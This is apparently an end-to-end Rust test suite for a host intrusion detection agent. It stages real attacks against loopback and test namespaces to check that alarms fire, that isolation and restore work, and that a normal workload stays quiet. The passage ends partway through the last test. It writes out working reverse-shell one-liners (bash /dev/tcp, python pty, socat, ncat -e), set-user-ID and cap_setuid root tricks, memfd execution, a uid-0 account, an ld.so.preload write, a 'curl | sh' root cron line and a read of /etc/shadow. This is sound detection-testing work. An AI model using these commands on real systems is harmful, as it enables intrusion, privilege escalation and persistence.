//! Runtime detection end to end with real attacks and real tools: reverse shells (bash
//! `/dev/tcp`, python pty, socat, `ncat -e`), a set-user-ID shell run by an unprivileged user,
//! memfd execution, a fake miner on a stratum port, `useradd -o -u 0`, a write to
//! `ld.so.preload`, root by `setuid(0)` with `cap_setuid`, a ptrace attach, a module load, a
//! root cron line that downloads and runs, an nmap SYN scan from another
//! network namespace (then blocked), isolate-and-kill with quarantine, refusal and restore; a
//! normal workload that must raise nothing; the proc-connector tier with BPF forced off; a
//! storm of 50,000 execs. Every attack targets loopback or the test's own namespaces.
//!
//! The sensor sees every process on the host, so these tests run one at a time (`SERIAL`), and
//! agents of other test files run with the sensor off.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use hostward_e2e::lab::*;
use hostward_e2e::runtime::*;
use hostward_e2e::*;
use serde_json::{Value, json};

static SERIAL: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

fn peer_is(a: &Value, peer: &str) -> bool {
    a["evidence"]["peer"] == peer
}

/// An alarm's detail (with its handling history beside it): the alarm.
async fn detail(api: &Api, a: &Value) -> Result<Value> {
    let id = a["id"].as_str().unwrap_or("");
    Ok(api
        .get(&format!("/api/v1/alarms/{id}"))
        .await?
        .expect(200)?
        .json["alarm"]
        .clone())
}

/// The alarm's own process (first in its chain) and the chain's length.
fn first_process(a: &Value) -> &Value {
    &a["evidence"]["processes"][0]
}

#[tokio::test]
async fn process_attacks_raise_their_alarms_with_the_process_chain() -> Result<()> {
    let _serial = SERIAL.lock().await;
    let env = TestEnv::new("behaviour-attacks");
    env.run(async {
        require_tools(&["ncat", "socat", "/usr/bin/python3", "useradd", "userdel", "su", "nft", "setcap"]).await?;
        let n = Netns::new().await?;
        let center = Center::start(&env, Backend::Sqlite, CenterOpts::default()).await?;
        let api = center.api();
        let agent = behaviour_agent(&env, &center, &n, "victim", "auto").await?;
        let server = agent.server_id.clone();
        let dir = env.subdir("attacks");

        // 1. bash /dev/tcp.
        let _l1 = listener(&env, &dir, "127.0.0.1", 19101, "id", 5).await?;
        let (_a1, t1) = attack(&env, &dir, "bash-tcp", "timeout 8 bash -c 'bash -i >& /dev/tcp/127.0.0.1/19101 0>&1'")?;
        let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "bash /dev/tcp", |a| peer_is(a, "127.0.0.1:19101")).await?;
        let a = detail(&api, &a).await?;
        ensure!(detection_secs(&a, t1) <= 5, "detected {} s after the attack: {a}", detection_secs(&a, t1));
        ensure!(first_process(&a)["cmdline"] == "bash -i", "{a}");
        let chain = chain_exes(&a);
        ensure!(chain.len() >= 2 && chain.iter().all(|e| !e.is_empty() || chain.len() > 2), "a chain up the session: {a}");
        ensure!(a["severity"] == "critical" && a["technique"].as_str().is_some_and(|t| t.starts_with("T1059.004")), "{a}");

        // 2. python pty: the shell's own descriptors are a terminal; its parent holds the socket.
        let _l2 = listener(&env, &dir, "127.0.0.1", 19102, "id", 5).await?;
        let (_a2, t2) = attack(
            &env,
            &dir,
            "python-pty",
            "timeout 8 /usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",19102));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'",
        )?;
        let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "python pty", |a| peer_is(a, "127.0.0.1:19102")).await?;
        ensure!(detection_secs(&a, t2) <= 5, "{a}");
        let a = detail(&api, &a).await?;
        let chain = chain_exes(&a);
        ensure!(chain.first().is_some_and(|e| e.ends_with("bash")) && chain.iter().any(|e| e.contains("python3")), "bash under python: {a}");

        // 3. socat exec: a pty shell whose parent is the relay.
        let _l3 = listener(&env, &dir, "127.0.0.1", 19103, "id", 5).await?;
        let (_a3, t3) = attack(&env, &dir, "socat", "timeout 8 socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:127.0.0.1:19103")?;
        let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "socat", |a| peer_is(a, "127.0.0.1:19103")).await?;
        ensure!(detection_secs(&a, t3) <= 5, "{a}");

        // 4. nc -e (nmap's ncat).
        let _l4 = listener(&env, &dir, "127.0.0.1", 19104, "id", 5).await?;
        let (_a4, t4) = attack(&env, &dir, "ncat-e", "timeout 8 ncat -e /bin/bash 127.0.0.1 19104")?;
        let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "ncat -e", |a| {
            a["evidence"]["details"].as_array().is_some_and(|d| d.iter().any(|d| d.as_str().is_some_and(|d| d.contains("ncat"))))
        })
        .await?;
        ensure!(detection_secs(&a, t4) <= 5, "{a}");

        // 5. A set-user-ID copy of bash run by an unprivileged user.
        let suid_dir = env.subdir("suid");
        std::fs::set_permissions(&suid_dir, std::fs::Permissions::from_mode(0o755))?;
        let rootbash = suid_dir.join("rootbash");
        std::fs::copy("/bin/bash", &rootbash)?;
        std::fs::set_permissions(&rootbash, std::fs::Permissions::from_mode(0o4755))?;
        let (_a5, t5) = attack(&env, &dir, "suid", &format!("su nobody -s /bin/sh -c '{} -p -c id'", rootbash.display()))?;
        let a = wait_behaviour_alarm(&api, &server, "process_privilege_escalation", "rootbash", |a| {
            a["evidence"]["file"].as_str() == rootbash.to_str()
        })
        .await?;
        ensure!(detection_secs(&a, t5) <= 5, "{a}");
        ensure!(first_process(&a)["uid"] == 65534 && first_process(&a)["euid"] == 0, "{a}");

        // 6. memfd execution.
        let memfd = dir.join("memfd.py");
        std::fs::write(&memfd, "import os\nfd = os.memfd_create('payload', 0)\nos.write(fd, open('/usr/bin/id', 'rb').read())\nos.execv(f'/proc/self/fd/{fd}', ['payload'])\n")?;
        let (_a6, t6) = attack(&env, &dir, "memfd", &format!("/usr/bin/python3 {}", memfd.display()))?;
        let a = wait_behaviour_alarm(&api, &server, "fileless_execution", "memfd", |a| a["evidence"]["details"].to_string().contains("memfd:payload")).await?;
        ensure!(detection_secs(&a, t6) <= 5, "{a}");

        // 7. A fake miner (a renamed ncat) connecting to a stratum port.
        let miner = dir.join("kworkerds");
        std::fs::copy("/usr/bin/ncat", &miner)?;
        let _l7 = listener(&env, &dir, "127.0.0.1", 3334, "", 5).await?;
        let (_a7, t7) = attack(&env, &dir, "miner", &format!("timeout 4 {} 127.0.0.1 3334 </dev/null", miner.display()))?;
        let a = wait_behaviour_alarm(&api, &server, "crypto_miner", "stratum", |a| peer_is(a, "127.0.0.1:3334")).await?;
        ensure!(detection_secs(&a, t7) <= 5, "{a}");
        ensure!(chain_exes(&a).first().map(String::as_str) == miner.to_str(), "{a}");

        // 8. useradd -o -u 0: the command, and the account it leaves.
        let name = format!("hw0{:05}", rand::random::<u32>() % 100_000);
        let t8 = unix_now();
        let out = run_cmd(Path::new("useradd"), &["-o", "-u", "0", "-M", "-s", "/usr/sbin/nologin", &name].map(String::from), None).await?;
        ensure!(out.success(), "useradd: {out}");
        let cmd = wait_behaviour_alarm(&api, &server, "high_risk_command", "useradd -o -u 0", |a| a["evidence"]["rule"] == "add_uid0_account").await;
        let acct = wait_behaviour_alarm(&api, &server, "invalid_account", "the uid-0 account", |a| a["evidence"]["details"].to_string().contains(&format!("{name} has uid 0"))).await;
        let userdel = ["-f".to_string(), name.clone()];
        run_cmd(Path::new("userdel"), &userdel, None).await?.ok()?;
        let (cmd, acct) = (cmd?, acct?);
        ensure!(detection_secs(&cmd, t8) <= 5 && detection_secs(&acct, t8) <= 5, "{cmd} {acct}");
        let acct = detail(&api, &acct).await?;
        ensure!(chain_exes(&acct).first().is_some_and(|e| e.ends_with("useradd")), "the writer: {acct}");

        // 10. A shell copied into /tmp under another name, then made set-user-ID.
        let copy = format!("/tmp/.hw-e2e-{}", std::process::id());
        let t10 = unix_now();
        std::fs::copy("/bin/bash", &copy)?;
        std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o4755))?;
        let shell = wait_behaviour_alarm(&api, &server, "abnormal_shell", "the shell copy", |a| a["evidence"]["file"] == copy).await;
        let suid = wait_behaviour_alarm(&api, &server, "file_privilege_escalation", "the set-user-ID bit", |a| a["evidence"]["file"] == copy).await;
        let _ = std::fs::remove_file(&copy);
        let (shell, suid) = (shell?, suid?);
        ensure!(detection_secs(&shell, t10) <= 5 && detection_secs(&suid, t10) <= 5, "{shell} {suid}");
        ensure!(shell["evidence"]["details"].to_string().contains("is a copy of the shell"), "{shell}");

        // 9. A write to /etc/ld.so.preload (empty, so nothing is preloaded; removed at once).
        let preload = Path::new("/etc/ld.so.preload");
        let before = std::fs::read(preload).ok();
        let t9 = unix_now();
        let out = run_cmd(Path::new("sh"), &["-c".into(), ": >> /etc/ld.so.preload".into()], None).await?;
        match &before {
            Some(b) => std::fs::write(preload, b)?,
            None => std::fs::remove_file(preload)?,
        }
        ensure!(out.success(), "{out}");
        let a = wait_behaviour_alarm(&api, &server, "persistence_preload", "ld.so.preload", |a| a["evidence"]["file"] == "/etc/ld.so.preload").await?;
        ensure!(detection_secs(&a, t9) <= 5, "{a}");
        ensure!(a["severity"] == "critical", "{a}");
        let a = detail(&api, &a).await?;
        ensure!(chain_exes(&a).first().is_some_and(|e| e.ends_with("sh") || e.ends_with("dash")), "the writer is the shell: {a}");

        // 11. Root by a set*id call with no exec: python holding cap_setuid, run by nobody.
        let a = cap_setuid_escalation(&env, &suid_dir, &api, &server).await?;
        let details = a["evidence"]["details"].to_string();
        ensure!(details.contains("by a set*id call") && details.contains("uid 65534, euid 65534 -> uid 0, euid 0"), "{a}");

        // 12. ptrace attach to a process the tracer did not start.
        let a = ptrace_injection(&env, &dir, &api, &server).await?;
        let a = detail(&api, &a).await?;
        ensure!(first_process(&a)["cmdline"].as_str().is_some_and(|c| c.contains("inject.py")), "the tracer: {a}");
        ensure!(a["technique"].as_str().is_some_and(|t| t.starts_with("T1055.008")), "{a}");

        // 13. A kernel module load asked for (refused here: not a module, or no module support).
        let ko = dir.join("hw_rootkit.ko");
        std::fs::write(&ko, b"\x7fELF not a module")?;
        let insmod = dir.join("insmod.py");
        std::fs::write(&insmod, FINIT_MODULE_PY)?;
        let (_a13, t13) = attack(&env, &dir, "module", &format!("/usr/bin/python3 {} {}", insmod.display(), ko.display()))?;
        let a = wait_behaviour_alarm(&api, &server, "kernel_module_load", "finit_module", |a| {
            a["evidence"]["details"].to_string().contains("module file hw_rootkit.ko")
        })
        .await?;
        ensure!(detection_secs(&a, t13) <= 5, "{a}");
        ensure!(a["evidence"]["details"].to_string().contains("the kernel refused it"), "{a}");
        Ok(())
    })
    .await
}

#[tokio::test]
async fn a_root_cron_line_that_downloads_and_runs_is_caught_twice() -> Result<()> {
    let _serial = SERIAL.lock().await;
    let env = TestEnv::new("behaviour-cron");
    env.run(async {
        require_tools(&["/usr/sbin/cron", "curl", "/usr/bin/python3", "nft"]).await?;
        let n = Netns::new().await?;
        let center = Center::start(&env, Backend::Sqlite, CenterOpts::default()).await?;
        let api = center.api();
        let agent = behaviour_agent(&env, &center, &n, "victim", "auto").await?;
        let server = agent.server_id.clone();
        let dir = env.subdir("cron");
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755))?;
        let marker = dir.join("ran");
        std::fs::write(dir.join("x.sh"), format!("touch {}\n", marker.display()))?;
        let port = free_port();
        let mut web = command("/usr/bin/python3");
        web.args([
            "-m",
            "http.server",
            &port.to_string(),
            "--bind",
            "127.0.0.1",
            "--directory",
        ])
        .arg(&dir);
        let _web = Proc::spawn(&env, "http", web, &dir, "http")?;
        let _cron = cron(&env, &dir).await?;
        let file = format!("/etc/cron.d/hostward-e2e-{}", std::process::id());
        let t0 = unix_now();
        std::fs::write(
            &file,
            format!("* * * * * root curl -s http://127.0.0.1:{port}/x.sh | sh\n"),
        )?;
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644))?;
        let written =
            wait_behaviour_alarm(&api, &server, "persistence_cron", "the cron file", |a| {
                a["evidence"]["file"] == file
            })
            .await;
        // Cron runs it at the next minute.
        let ran = wait_behaviour_alarm(&api, &server, "high_risk_command", "cron's run", |a| {
            a["evidence"]["rule"] == "download_to_shell"
                && chain_exes(a).iter().any(|e| e.ends_with("/cron"))
        })
        .await;
        let _ = std::fs::remove_file(&file);
        let (written, ran) = (written?, ran?);
        ensure!(detection_secs(&written, t0) <= 5, "{written}");
        let ran = detail(&api, &ran).await?;
        ensure!(
            chain_exes(&ran).iter().any(|e| e.ends_with("/cron")),
            "cron in the chain: {ran}"
        );
        ensure!(marker.exists(), "the job really ran");
        Ok(())
    })
    .await
}

#[tokio::test]
async fn an_nmap_syn_scan_and_a_decoy_port_visit_are_alarmed_and_blocked() -> Result<()> {
    let _serial = SERIAL.lock().await;
    let env = TestEnv::new("behaviour-scan");
    env.run(async {
        require_tools(&["nmap", "nft"]).await?;
        let n = Netns::new().await?;
        let center = Center::start(&env, Backend::Sqlite, CenterOpts::default()).await?;
        let api = center.api();
        let agent = behaviour_agent(&env, &center, &n, "victim", "auto").await?;
        let server = agent.server_id.clone();
        let t0 = unix_now();
        let out = n
            .in_attacker(
                &[
                    "nmap",
                    "-sS",
                    "-Pn",
                    "-n",
                    "--max-retries",
                    "0",
                    "-p",
                    "1-200",
                    VICTIM_IP,
                ],
                secs(60),
            )
            .await?;
        ensure!(out.success(), "nmap: {out}");
        let a = wait_behaviour_alarm(&api, &server, "port_scan", "the nmap scan", |a| {
            a["source_ip"] == ATTACKER_IP
        })
        .await?;
        ensure!(detection_secs(&a, t0) <= 5, "{a}");
        ensure!(
            a["evidence"]["blocked_until"].as_i64().is_some(),
            "blocked per policy: {a}"
        );
        n.wait_blocked(ATTACKER_IP).await?;
        ensure!(
            !n.can_connect(None, VICTIM_IP, 22).await?,
            "the scanner's new connections are dropped"
        );
        let blocked = api
            .get(&format!("/api/v1/servers/{server}/blocked-ips"))
            .await?
            .expect(200)?;
        ensure!(
            blocked.text.contains("port_scan"),
            "the block's reason: {}",
            blocked.text
        );

        // A decoy port, turned on by policy: one connection is an alarm and a block.
        set_policy(&api, &server, |p| {
            p["disabled"] = json!([]);
            p["honeypot_ports"] = json!([2323]);
        })
        .await?;
        let visitor = "10.79.0.7";
        n.add_attacker_addr(visitor).await?;
        wait_until(
            "the decoy port to answer",
            secs(30),
            millis(300),
            || async {
                ensure!(
                    n.can_connect(Some(visitor), VICTIM_IP, 2323).await?,
                    "not open yet"
                );
                Ok(())
            },
        )
        .await?;
        // The visit that answered happened within the last probe's 2 s timeout.
        let t1 = unix_now() - 2;
        let a = wait_behaviour_alarm(&api, &server, "honeypot", "the decoy visit", |a| {
            a["source_ip"] == visitor
        })
        .await?;
        ensure!(detection_secs(&a, t1) <= 5, "{a}");
        n.wait_blocked(visitor).await?;
        Ok(())
    })
    .await
}

#[tokio::test]
async fn a_normal_workload_raises_no_alarm() -> Result<()> {
    let _serial = SERIAL.lock().await;
    let env = TestEnv::new("behaviour-workload");
    env.run(async {
        require_tools(&[
            "apt-get",
            "cc",
            "ssh",
            "ssh-keygen",
            "/usr/sbin/sshd",
            "/usr/sbin/cron",
            "nft",
        ])
        .await?;
        let n = Netns::new().await?;
        let dir = env.subdir("workload");
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755))?;
        // A cron job that exists before the agent starts (a host's usual jobs), and sshd with a
        // key login for a fresh account.
        let marker = dir.join("cron-ran");
        let job = format!("/etc/cron.d/hostward-e2e-wl-{}", std::process::id());
        std::fs::write(
            &job,
            format!("* * * * * root date > {}\n", marker.display()),
        )?;
        std::fs::set_permissions(&job, std::fs::Permissions::from_mode(0o644))?;
        let acct = KeyAccount::new(&env, "wl").await?;
        let (key, user) = (acct.key.clone(), acct.user.clone());
        let opts = acct.sshd_options();
        let sshd = Sshd::start(&env, &n, &[&opts[0], &opts[1]]).await?;

        let center = Center::start(&env, Backend::Sqlite, CenterOpts::default()).await?;
        let api = center.api();
        let agent = behaviour_agent(&env, &center, &n, "victim", "auto").await?;
        let server = agent.server_id.clone();
        let _cron = cron(&env, &dir).await?;
        let result = async {
            // An install, from the real package archive.
            let out = run_cmd_timeout(
                Path::new("apt-get"),
                &["install", "-y", "-q", "--reinstall", "hello"].map(String::from),
                None,
                secs(300),
            )
            .await?;
            ensure!(out.success(), "apt-get install hello: {out}");
            // A compile.
            std::fs::write(
                dir.join("a.c"),
                "#include <stdio.h>\nint main(void){puts(\"hi\");return 0;}\n",
            )?;
            let out = run_cmd(
                Path::new("cc"),
                &[
                    "-O2",
                    "-o",
                    &dir.join("a").display().to_string(),
                    &dir.join("a.c").display().to_string(),
                ]
                .map(String::from),
                None,
            )
            .await?;
            ensure!(out.success(), "cc: {out}");
            run_cmd(&dir.join("a"), &[], None).await?.ok()?;
            // sshd logins.
            for _ in 0..3 {
                let out = n
                    .in_attacker(
                        &[
                            "ssh",
                            "-i",
                            &key.display().to_string(),
                            "-o",
                            "StrictHostKeyChecking=no",
                            "-o",
                            "UserKnownHostsFile=/dev/null",
                            "-o",
                            "BatchMode=yes",
                            &format!("{user}@{VICTIM_IP}"),
                            "id; ls /tmp >/dev/null",
                        ],
                        secs(20),
                    )
                    .await?;
                ensure!(out.success(), "ssh: {out}");
            }
            // The daily risk scan, run now.
            let task = api
                .post(
                    "/api/v1/tasks",
                    json!({"server_ids": [server], "kind": "risk_scan", "params": {}}),
                )
                .await?
                .expect(201)?;
            let id = task.json["items"][0]["id"]
                .as_str()
                .unwrap_or("")
                .to_string();
            wait_until("the risk scan", secs(300), millis(500), || async {
                let t = api.get(&format!("/api/v1/tasks/{id}")).await?.expect(200)?;
                ensure!(t.json["state"] == "done", "{}", t.json["state"]);
                Ok(())
            })
            .await?;
            // A service restart: the lab's sshd, stopped and started again.
            drop(sshd);
            let _sshd = Sshd::start(&env, &n, &[&opts[0], &opts[1]]).await?;
            // A cron job run.
            host_until("the cron job to run", || marker.exists())
                .await
                .or_else(|_| {
                    std::thread::sleep(secs(35));
                    if marker.exists() {
                        Ok(())
                    } else {
                        Err(anyhow!("the cron job never ran"))
                    }
                })?;
            // Give the last events time to arrive: records flow in order, so a heartbeat after
            // this point means everything before it was judged.
            tokio::time::sleep(secs(3)).await;
            Ok::<_, anyhow::Error>(())
        }
        .await;
        let _ = std::fs::remove_file(&job);
        let _ = run_cmd(
            Path::new("apt-get"),
            &["remove", "-y", "-q", "hello"].map(String::from),
            None,
        )
        .await;
        result?;
        let alarms = alarms_of(&api, &server).await?;
        ensure!(
            alarms.is_empty(),
            "a normal workload raised alarms: {}",
            serde_json::to_string_pretty(&alarms)?
        );
        // The detectors were live all along: one high-risk command now is seen.
        run_cmd(
            Path::new("sh"),
            &["-c".into(), "cat /etc/shadow > /dev/null".into()],
            None,
        )
        .await?
        .ok()?;
        wait_behaviour_alarm(
            &api,
            &server,
            "high_risk_command",
            "the control command",
            |a| a["evidence"]["rule"] == "read_shadow",
        )
        .await?;
        Ok(())
    })
    .await
}

/// Whether a process still runs (a zombie does not).
fn alive(pid: i64) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|s| !s.contains(") Z "))
}

#[tokio::test]
async fn isolate_and_kill_quarantines_refuses_copies_and_restores() -> Result<()> {
    let _serial = SERIAL.lock().await;
    let env = TestEnv::new("behaviour-isolate");
    env.run(async {
        require_tools(&["ncat", "cc", "nft"]).await?;
        let n = Netns::new().await?;
        let center = Center::start(&env, Backend::Sqlite, CenterOpts::default()).await?;
        let api = center.api();
        let agent = behaviour_agent(&env, &center, &n, "victim", "auto").await?;
        let server = agent.server_id.clone();
        let dir = env.subdir("isolate");
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755))?;
        let built = build_dropper(&dir).await?;
        let bin = dir.join("rsh");
        std::fs::copy(&built, &bin)?;
        std::os::unix::fs::chown(&bin, Some(65534), Some(65534))?;
        std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o750))?;

        // The dropper dials out and runs a shell on the connection.
        let _l = listener(&env, &dir, "127.0.0.1", 19201, "sleep 30", 30).await?;
        let (_a, _) = attack(
            &env,
            &dir,
            "dropper",
            &format!("{} 127.0.0.1 19201", bin.display()),
        )?;
        let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "the dropper's shell", |a| {
            peer_is(a, "127.0.0.1:19201")
        })
        .await?;
        ensure!(
            a["evidence"]["file"].as_str() == bin.to_str(),
            "the dropper is the file to isolate: {a}"
        );
        let pids = chain_pids(&a);
        let (shell, dropper) = (pids[0], pids[1]);
        ensure!(
            alive(shell) && alive(dropper),
            "both run before the isolation"
        );

        // Isolate and kill, as a person does from the alarm.
        let task = api
            .post(
                "/api/v1/isolated-files/isolate",
                json!({"alarm_id": a["id"]}),
            )
            .await?
            .expect(201)?;
        let done = wait_task(&api, task.json["id"].as_str().unwrap_or("")).await?;
        ensure!(
            done["output"]["killed"]
                .as_array()
                .is_some_and(|k| k.len() >= 2),
            "{done}"
        );
        host_until("the tree to die", || !alive(shell) && !alive(dropper)).await?;
        ensure!(!bin.exists(), "the dropper left its path");
        let list = wait_until(
            "the isolated file at the center",
            secs(30),
            millis(200),
            || async {
                let r = api
                    .get(&format!("/api/v1/isolated-files?server={server}"))
                    .await?
                    .expect(200)?;
                let item = r.json["items"]
                    .as_array()
                    .and_then(|i| i.first().cloned())
                    .ok_or_else(|| anyhow!("none yet"))?;
                ensure!(item["state"] == "isolated", "{item}");
                Ok(item)
            },
        )
        .await?;
        ensure!(
            list["path"].as_str() == bin.to_str() && list["uid"] == 65534 && list["mode"] == 0o750,
            "{list}"
        );
        ensure!(list["reason"] == "reverse_shell", "{list}");
        let stored = std::fs::read_dir(agent.state_dir.join("quarantine"))?
            .flatten()
            .find(|e| e.file_name() != "index.json")
            .ok_or_else(|| anyhow!("nothing in the quarantine dir"))?;
        ensure!(
            stored.metadata()?.permissions().mode() & 0o7777 == 0,
            "kept with mode 0000"
        );

        // A copy put back, under any name, is refused at exec; so is the original build.
        let copy = dir.join("rsh-again");
        std::fs::copy(&built, &copy)?;
        std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o755))?;
        for path in [&copy, &built] {
            let r = std::process::Command::new(path).output();
            ensure!(
                matches!(&r, Err(e) if e.kind() == std::io::ErrorKind::PermissionDenied),
                "{} ran: {r:?}",
                path.display()
            );
        }
        // Other programs still run.
        ensure!(
            std::process::Command::new("/usr/bin/id")
                .output()?
                .status
                .success()
        );

        // Restore: back with owner and mode, and runnable again.
        let file_id = list["file_id"].as_str().unwrap_or("").to_string();
        let r = api
            .post(
                "/api/v1/isolated-files/actions",
                json!({"action": "restore", "files": [{"server_id": server, "file_id": file_id}]}),
            )
            .await?
            .expect(200)?;
        wait_task(&api, r.json["tasks"][0]["id"].as_str().unwrap_or("")).await?;
        let m = std::fs::metadata(&bin)?;
        use std::os::unix::fs::MetadataExt;
        ensure!(
            (m.uid(), m.gid(), m.mode() & 0o7777) == (65534, 65534, 0o750),
            "restored as {:o}",
            m.mode()
        );
        ensure!(
            std::fs::read(&bin)? == std::fs::read(&built)?,
            "the same bytes"
        );
        let st = std::process::Command::new(&bin).status()?;
        ensure!(st.code() == Some(2), "runs again (usage exit 2): {st:?}");
        wait_until(
            "the restore at the center",
            secs(30),
            millis(200),
            || async {
                let r = api
                    .get(&format!("/api/v1/isolated-files?server={server}"))
                    .await?
                    .expect(200)?;
                ensure!(r.json["items"][0]["state"] == "restored", "{}", r.text);
                Ok(())
            },
        )
        .await?;

        // Automatic isolate and kill, once the project's policy asks for it.
        set_policy(&api, &server, |p| {
            p["auto_isolate"] = json!(true);
        })
        .await?;
        tokio::time::sleep(secs(2)).await;
        let _l2 = listener(&env, &dir, "127.0.0.1", 19202, "sleep 30", 30).await?;
        let (_a2, _) = attack(
            &env,
            &dir,
            "dropper-2",
            &format!("{} 127.0.0.1 19202", bin.display()),
        )?;
        let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "the second run", |a| {
            peer_is(a, "127.0.0.1:19202")
        })
        .await?;
        ensure!(
            a["evidence"]["response"]
                .as_str()
                .is_some_and(|r| r.starts_with("isolated and killed automatically")),
            "{a}"
        );
        let pids = chain_pids(&a);
        host_until("the auto-killed tree to die", || {
            pids.iter().take(2).all(|p| !alive(*p))
        })
        .await?;
        ensure!(!bin.exists(), "isolated again");
        Ok(())
    })
    .await
}

#[tokio::test]
async fn with_bpf_off_the_proc_tier_detects_what_it_can_and_says_what_it_cannot() -> Result<()> {
    let _serial = SERIAL.lock().await;
    let env = TestEnv::new("behaviour-proc");
    env.run(async {
        require_tools(&["ncat", "/usr/bin/python3", "su", "useradd", "userdel", "nft", "setcap"]).await?;
        let n = Netns::new().await?;
        let center = Center::start(&env, Backend::Sqlite, CenterOpts::default()).await?;
        let api = center.api();
        let agent = behaviour_agent(&env, &center, &n, "victim", "proc").await?;
        let server = agent.server_id.clone();
        let dir = env.subdir("proc");
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755))?;

        // A reverse shell: the interactive shell lives as long as its connection, so /proc is
        // read in time.
        let _l = listener(&env, &dir, "127.0.0.1", 19301, "sleep 5", 8).await?;
        let (_a, t) = attack(&env, &dir, "bash-tcp", "timeout 10 bash -c 'bash -i >& /dev/tcp/127.0.0.1/19301 0>&1'")?;
        let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "bash /dev/tcp", |a| peer_is(a, "127.0.0.1:19301")).await?;
        ensure!(detection_secs(&a, t) <= 5, "{a}");
        // A set-user-ID shell that stays a moment.
        let rootbash = dir.join("rootbash");
        std::fs::copy("/bin/bash", &rootbash)?;
        std::fs::set_permissions(&rootbash, std::fs::Permissions::from_mode(0o4755))?;
        let (_s, t) = attack(&env, &dir, "suid", &format!("su nobody -s /bin/sh -c '{} -p -c \"sleep 2; id\"'", rootbash.display()))?;
        let a = wait_behaviour_alarm(&api, &server, "process_privilege_escalation", "rootbash", |a| a["evidence"]["file"].as_str() == rootbash.to_str()).await?;
        ensure!(detection_secs(&a, t) <= 5, "{a}");
        // A program run from memory that stays a moment.
        let memfd = dir.join("memfd.py");
        std::fs::write(&memfd, "import os\nfd = os.memfd_create('payload', 0)\nos.write(fd, open('/usr/bin/sleep', 'rb').read())\nos.execv(f'/proc/self/fd/{fd}', ['payload', '2'])\n")?;
        let (_m, t) = attack(&env, &dir, "memfd", &format!("/usr/bin/python3 {}", memfd.display()))?;
        let a = wait_behaviour_alarm(&api, &server, "fileless_execution", "memfd", |a| a["evidence"]["details"].to_string().contains("memfd:payload")).await?;
        ensure!(detection_secs(&a, t) <= 5, "{a}");
        // Root gained by a set*id call and a ptrace attach: the proc connector reports both.
        cap_setuid_escalation(&env, &dir, &api, &server).await?;
        ptrace_injection(&env, &dir, &api, &server).await?;
        // File-based detection does not depend on the tier.
        let name = format!("hw0{:05}", rand::random::<u32>() % 100_000);
        let out = run_cmd(Path::new("useradd"), &["-o", "-u", "0", "-M", "-s", "/usr/sbin/nologin", &name].map(String::from), None).await?;
        let acct = wait_behaviour_alarm(&api, &server, "invalid_account", "the uid-0 account", |a| a["evidence"]["details"].to_string().contains(&format!("{name} has uid 0"))).await;
        let userdel = ["-f".to_string(), name.clone()];
        run_cmd(Path::new("userdel"), &userdel, None).await?.ok()?;
        ensure!(out.success(), "useradd: {out}");
        acct?;

        // What needs BPF is said, on the API and on the server page.
        let s = api.server_detail(&server).await?;
        let sensor = &server_of(&s)["heartbeat"]["sensor"];
        let unavailable = sensor["unavailable"].to_string();
        ensure!(sensor["tier"] == "proc", "{sensor}");
        ensure!(sensor["reason"].as_str().is_some_and(|r| r.contains("BPF turned off")), "{sensor}");
        ensure!(unavailable.contains("abnormal_outbound: needs BPF") && unavailable.contains("crypto_miner") && unavailable.contains("kernel_module: needs BPF"), "{sensor}");
        center.add_user("ops", "behaviour-console-password-42", &["--superadmin"]).await?;
        let console = center.console_login("ops", "behaviour-console-password-42").await?;
        let page = console.get(&format!("/servers/{server}")).await?;
        ensure!(page.status == 200, "{}", page.status);
        ensure!(page.body.contains("<span id=\"sensor-tier-name\">proc</span>"), "{}", truncate(&page.body, 3000));
        ensure!(page.body.contains("id=\"sensor-unavailable\"") && page.body.contains("abnormal_outbound: needs BPF"), "{}", truncate(&page.body, 3000));
        Ok(())
    })
    .await
}

#[tokio::test]
async fn an_exec_storm_is_counted_not_lost_and_the_agent_stays_within_its_caps() -> Result<()> {
    let _serial = SERIAL.lock().await;
    let env = TestEnv::new("behaviour-storm");
    env.run(async {
        require_tools(&["nft"]).await?;
        let n = Netns::new().await?;
        let center = Center::start(&env, Backend::Sqlite, CenterOpts::default()).await?;
        let api = center.api();
        let agent = behaviour_agent(&env, &center, &n, "victim", "auto").await?;
        let server = agent.server_id.clone();
        let sensor = |s: &Value| server_of(s)["heartbeat"]["sensor"].clone();
        let before = sensor(&api.server_detail(&server).await?);
        // 50,000 execs, two loops at once (both cores).
        let out = run_cmd_timeout(
            Path::new("sh"),
            &["-c".into(), "for j in 1 2; do (i=0; while [ $i -lt 25000 ]; do /bin/true; i=$((i+1)); done) & done; wait".into()],
            None,
            secs(600),
        )
        .await?;
        ensure!(out.success(), "{out}");
        // The report is refreshed every 5 s and sent with the next heartbeat: wait for the
        // counters to cover the storm.
        let (seen, accounted, after) = wait_until("the storm in the sensor report", secs(30), millis(500), || async {
            let after = sensor(&api.server_detail(&server).await?);
            let d = |k: &str| after[k].as_u64().unwrap_or(0) - before[k].as_u64().unwrap_or(0);
            let seen = d("seen_kernel");
            // Each exec is a fork, an exec and an exit: at least 150,000 events.
            ensure!(seen >= 150_000, "the kernel side saw {seen} so far");
            let accounted = d("received") + d("dropped_kernel") + d("dropped_user") + d("undecodable");
            eprintln!(
                "storm: seen {seen}, received {}, lost in the kernel {}, in the agent {}, undecodable {}",
                d("received"),
                d("dropped_kernel"),
                d("dropped_user"),
                d("undecodable")
            );
            Ok((seen, accounted, after))
